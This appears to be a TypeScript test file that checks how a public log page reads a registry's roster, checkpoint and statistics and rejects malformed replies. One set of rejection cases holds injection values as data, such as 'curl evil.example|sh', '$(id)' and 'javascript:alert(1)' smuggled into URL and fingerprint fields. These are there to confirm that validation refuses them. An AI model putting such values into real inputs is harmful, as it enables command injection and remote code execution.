/** What the page of the public log fetches by itself, from a registry that answers, and from what does not answer as it should. */
import { afterEach, describe, expect, it, vi } from 'vitest';
import { formatBase64url } from '../../../../crypto/bytes.ts';
import { formatMessage } from '../../../../crypto/message.ts';
import { formatBase64 } from '../../../../crypto/note.ts';
import { rosterReplySchema, statisticsReplySchema } from '../../../../crypto/wire.ts';
import { readLog } from '../../../../server/web/log/read-log.ts';
import { AuditWorld, activations } from '../../../support/audit-world.ts';
import { NOON } from '../../../support/small-roster.ts';

afterEach(() => {
  vi.unstubAllGlobals();
});

const FINGERPRINT = formatBase64url(new Uint8Array(32).fill(1));
const MONTHS = [{ month: '2026-10', force: 'force-a', lookups: 3, hits: 2, openings: 1 }];

type Served = Record<string, () => Response | Promise<Response>>;

/** Serves a registry at its addresses, and whatever is put in the place of some of them. */
function serve(instead: Served = {}): { readonly world: AuditWorld; readonly asked: string[] } {
  const world = new AuditWorld();
  world.append(...activations(9));
  world.log.publish(NOON);
  const served: Served = {
    'https://pages.example/registry.json': () =>
      Response.json({
        format: 'blindmark-registry-v1',
        url: 'https://registry.example/',
        rosterFingerprint: FINGERPRINT,
      }),
    'https://registry.example/v1/roster': () =>
      Response.json(formatMessage(rosterReplySchema, { chain: world.chain, log: null })),
    'https://registry.example/log/checkpoint': () =>
      new Response(world.log.get('log/checkpoint') as Uint8Array<ArrayBuffer>),
    'https://registry.example/v1/statistics': () =>
      Response.json(formatMessage(statisticsReplySchema, { size: 10, months: MONTHS, delayed: 4 })),
    ...instead,
  };
  const asked: string[] = [];
  vi.stubGlobal('document', { baseURI: 'https://pages.example/log/' });
  vi.stubGlobal('fetch', async (url: string, { signal }: { signal: AbortSignal }) => {
    asked.push(url);
    signal.throwIfAborted();
    const answer = served[url];
    if (answer === undefined) throw new TypeError('there is nothing');
    return answer();
  });
  return { world, asked };
}

describe('what the registry states', () => {
  it('is read from three answers, at the address beside the pages', async () => {
    const { world, asked } = serve();
    expect(await readLog()).toEqual({
      url: 'https://registry.example',
      origin: 'registry.example',
      isTestRegistry: false,
      fingerprint: FINGERPRINT,
      size: 10,
      root: formatBase64(world.log.head().root),
      threshold: 2,
      cosignatures: [1, 2, 3].map((number) => ({ guardian: `Guardian ${number}`, time: NOON })),
      months: MONTHS,
      delayed: 4,
    });
    expect(asked[0]).toBe('https://pages.example/registry.json');
    expect(asked).toHaveLength(4);
  });

  it('says which guardian has not cosigned', async () => {
    const { world } = serve();
    const note = new TextDecoder().decode(world.log.get('log/checkpoint') as Uint8Array);
    const lines = note.split('\n').filter((line) => !line.startsWith('— registry.example/guardian/g3'));
    serve({ 'https://registry.example/log/checkpoint': () => new Response(lines.join('\n')) });
    expect((await readLog()).cosignatures.map(({ time }) => time)).toEqual([NOON, NOON, null]);
  });
});

it.each([
  'http://127.0.0.1:4000',
  'http://localhost:4000/a-registry',
  'http://[::1]:4000',
  'https://xn--4ca.example/~r',
])('a registry’s address may be %s', async (url) => {
  const { world } = serve();
  const served = {
    '/v1/roster': formatMessage(rosterReplySchema, { chain: world.chain, log: null }),
    '/v1/statistics': formatMessage(statisticsReplySchema, { size: 10, months: [], delayed: 0 }),
  };
  serve({
    'https://pages.example/registry.json': () => Response.json({ url, rosterFingerprint: FINGERPRINT }),
    ...Object.fromEntries(Object.entries(served).map(([path, reply]) => [url + path, () => Response.json(reply)])),
    [`${url}/log/checkpoint`]: () => new Response(world.log.get('log/checkpoint') as Uint8Array<ArrayBuffer>),
  });
  expect(await readLog()).toMatchObject({ url });
});

const problem = (code: string, status: number): Response =>
  Response.json({ type: 'about:blank', title: code, status, code, detail: 'in words', retryAfter: 7 }, { status });

describe('what cannot be shown', () => {
  it.each<[string, Served, object]>([
    [
      'a registry that refuses',
      { 'https://registry.example/log/checkpoint': () => problem('guardiansUnavailable', 503) },
      { code: 'guardiansUnavailable', kind: 'unavailable', retryAfter: 7 },
    ],
    [
      'one that says no for good',
      { 'https://registry.example/v1/roster': () => problem('unknownRoute', 404) },
      { code: 'unknownRoute', kind: 'refused' },
    ],
    [
      'a proxy with words of its own',
      { 'https://registry.example/v1/roster': () => new Response('<h1>Bad gateway</h1>', { status: 502 }) },
      { code: 'unavailable', kind: 'unavailable' },
    ],
    [
      'nobody at the address',
      { 'https://registry.example/v1/statistics': async () => Promise.reject(new TypeError('refused')) },
      { code: 'unreachable', kind: 'unavailable' },
    ],
    [
      'an answer that is no JSON',
      { 'https://registry.example/v1/roster': () => new Response('<!doctype html>') },
      { code: 'badReply' },
    ],
    [
      'a roster that is none',
      { 'https://registry.example/v1/roster': () => Response.json({ chain: [] }) },
      { code: 'badReply' },
    ],
    [
      'a roster’s bytes that are none',
      { 'https://registry.example/v1/roster': () => Response.json({ chain: [{ roster: '!' }] }) },
      { code: 'badReply' },
    ],
    [
      'a checkpoint that is none',
      { 'https://registry.example/log/checkpoint': () => new Response('nothing') },
      { code: 'badReply' },
    ],
    [
      'counts that are none',
      {
        'https://registry.example/v1/statistics': () =>
          Response.json({ size: 1, delayed: 0, months: [{ ...MONTHS[0], lookups: -1 }] }),
      },
      { code: 'badReply' },
    ],
    ...(
      [
        ['a month that is none', [{ ...MONTHS[0], month: '2026-13' }]],
        ['a month that is a page', [{ ...MONTHS[0], month: `2026-10${' '.repeat(9000)}` }]],
        ['more months than there can be', Array.from({ length: 5001 }, () => MONTHS[0])],
      ] as const
    ).map(([name, months]): [string, Served, object] => [
      name,
      { 'https://registry.example/v1/statistics': () => Response.json({ size: 1, delayed: 0, months }) },
      { code: 'badReply' },
    ]),
    ...[
      { url: 'https://registry.example; curl evil.example|sh' },
      { url: 'https://registry.example/$(id)' },
      { url: 'https://registry.example/`id`' },
      { url: "https://registry.example/'x" },
      { url: 'https://registry.example\ncurl evil.example' },
      { url: 'https://user@registry.example' },
      { url: 'http://registry.example' },
      { url: 'javascript:alert(1)' },
      { rosterFingerprint: `${FINGERPRINT.slice(1)};` },
      { rosterFingerprint: `${FINGERPRINT} --pages x` },
    ].map((changes): [string, Served, object] => [
      `registry.json with ${JSON.stringify(changes)}`,
      {
        'https://pages.example/registry.json': () =>
          Response.json({ url: 'https://registry.example', rosterFingerprint: FINGERPRINT, ...changes }),
      },
      { code: 'badReply' },
    ]),
    [
      'a service that asks for a pause of ages',
      {
        'https://registry.example/v1/statistics': () =>
          Response.json({ code: 'overloaded', detail: 'in words', retryAfter: 1e308 }, { status: 503 }),
      },
      { code: 'overloaded', retryAfter: undefined },
    ],
    ['no registry.json', { 'https://pages.example/registry.json': () => Response.json([]) }, { code: 'badReply' }],
  ])('is told by its code: %s', async (_, instead, expected) => {
    serve(instead);
    await expect(readLog()).rejects.toMatchObject({ name: 'EngineError', ...expected });
  });

  it('is not waited for once the page has stopped it', async () => {
    serve();
    const controller = new AbortController();
    controller.abort();
    await expect(readLog(controller.signal)).rejects.toMatchObject({ code: 'cancelled' });
  });
});
